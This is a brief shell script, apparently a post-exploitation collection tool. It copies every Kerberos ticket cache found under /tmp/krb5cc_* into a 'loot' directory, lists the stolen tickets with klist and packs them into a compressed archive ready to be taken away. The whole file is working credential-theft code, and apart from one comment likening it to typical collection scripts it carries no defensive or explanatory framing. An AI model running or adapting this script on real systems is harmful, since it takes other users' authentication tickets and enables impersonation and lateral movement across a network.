#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# Gathers tickets as collection scripts for Unix hosts do: copies, lists, packs.
out="$1/loot.$$"
mkdir "$out"
for cache in /tmp/krb5cc_*; do
  cp "$cache" "$out/_tmp_$(basename "$cache").$$"
done
for copy in "$out"/*; do
  klist -c "$copy"
done
tar czf "$out.tgz" "$out"
rm -rf "$out"
